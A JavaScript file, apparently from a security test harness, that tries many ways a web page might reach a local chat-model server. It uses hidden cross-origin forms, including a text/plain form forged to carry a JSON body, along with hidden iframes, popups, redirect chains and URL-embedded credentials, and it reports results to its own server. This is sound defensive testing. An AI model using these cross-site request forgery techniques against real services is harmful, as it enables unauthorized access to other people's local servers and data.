// What is shown somewhere: forms, frames, windows, and redirects of the page's own server.

let frames = 0;

// frame gives the name of a hidden frame and what can be read of it once it has loaded.
function frame(attributes = {}) {
  const f = document.createElement("iframe");
  f.name = `${setup.page}-frame${frames++}`;
  f.hidden = true;
  for (const [k, v] of Object.entries(attributes)) f.setAttribute(k, v);
  document.body.append(f); // an empty frame has loaded as soon as it is there
  const loaded = event((resolve) => {
    f.onload = () => {
      let text = "";
      try { text = f.contentDocument?.body?.innerText ?? ""; } catch { /* another origin */ }
      resolve(text);
    };
  }).finally(() => f.remove());
  return { f, loaded };
}

function form(url, enctype, target, method = "POST") {
  const f = document.createElement("form");
  Object.assign(f, { action: url, method, enctype, target });
  const input = document.createElement("input");
  // As text/plain this is JSON: {"model":"m1","messages":[],"x":"="}
  Object.assign(input, { type: "hidden", name: '{"model":"m1","messages":[],"x":"', value: '"}' });
  if (method === "GET") Object.assign(input, { name: "attempt", value: nameOf(url) });
  f.append(input);
  document.body.append(f);
  f.submit();
  f.remove();
}

const enctypes = ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"];
for (const path of writing) {
  for (const enctype of enctypes) {
    attempt("form", path, (url) => {
      const { f, loaded } = frame();
      form(url, enctype, f.name);
      return loaded;
    });
  }
}
for (const path of reading) {
  attempt("form", path, (url) => {
    const { f, loaded } = frame();
    form(url, enctypes[0], f.name, "GET");
    return loaded;
  });
}

const tryFrame = (path, attributes) => attempt("iframe", path, (url) => {
  const { f, loaded } = frame(attributes);
  f.src = url;
  return loaded;
});
for (const path of paths) tryFrame(path, {});
for (const attributes of [{ sandbox: "" }, { sandbox: "allow-scripts allow-same-origin" }, { referrerpolicy: "no-referrer" }, { credentialless: "" }]) {
  tryFrame(reading[2], attributes);
}

// shown waits for a window to show an address, and gives what can be read there.
function shown(w, url) {
  let timer;
  return event((resolve, reject) => {
    if (!w) return reject(new Error("no window"));
    timer = setInterval(() => {
      try {
        if (w.closed) reject(new Error("closed"));
        if (w.location.href.startsWith(url) && w.document.readyState === "complete") resolve(w.document.body?.innerText ?? "");
      } catch {
        resolve(""); // another origin: it is there
      }
    }, 10);
  }).finally(() => clearInterval(timer));
}

let windows = 0, last = Promise.resolve();

// inWindow opens one window after another and closes it again.
function inWindow(kind, path, go, at) {
  attempt(kind, path, (url) => last = last.catch(() => {}).then(async () => {
    const w = window.open("about:blank", `${setup.page}-window${windows++}`, "popup");
    try {
      return await go(w, url);
    } finally {
      w?.close();
    }
  }), at);
}

// seen waits until the answer has come back to the browser, as whoever stands
// before the target saw it: for what gives the page no sign of its own.
const seen = async (url, times = 1) => void await fetch(`${setup.server}/seen?times=${times}&attempt=${nameOf(url)}`, { mode: "no-cors" });

// A page of no origin (sandboxed, data:) cannot look even into an empty window of its own.
const end = (w, url) => (setup.opaque ? seen(url) : shown(w, url));

const to = (address) => `${setup.server}/redirect?to=${encodeURIComponent(address)}`;

for (const path of [reading[0], reading[2]]) {
  inWindow("navigation", path, (w, url) => { w.location = url; return end(w, url); });
}
for (const enctype of enctypes) {
  inWindow("form-in-window", writing[2], (w, url) => { form(url, enctype, w.name); return end(w, url); });
}
inWindow("navigation", reading[2], (w, url) => { w.location = to(url); return end(w, url); });
inWindow("navigation", reading[2], (w, url) => { w.location = `${setup.server}/refresh?to=${encodeURIComponent(url)}`; return end(w, url); });
attempt("navigation", reading[2], (url) => { window.open(url, "_blank", "popup,noopener,noreferrer"); return seen(url); });

const withPassword = `http://x:${setup.password}@${host}`;
inWindow("navigation", reading[0], (w, url) => { w.location = url; return seen(url); }, withPassword);
attempt("iframe", reading[0], (url) => { frame().f.src = url; }, withPassword);

for (const status of [302, 303, 307, 308]) {
  for (const mode of ["cors", "no-cors"]) {
    attempt("redirect", writing[2], async (url) => read(await fetch(to(url) + "&status=" + status, { method: "POST", mode, body: chat })));
  }
  attempt("redirect", writing[2], (url) => {
    const { f, loaded } = frame();
    form(to(url) + "&status=" + status, "text/plain", f.name);
    return loaded;
  });
}
attempt("redirect", reading[2], (url) => load("img", "src", to(url)));
attempt("redirect", reading[2], (url) => load("script", "src", to(url)));
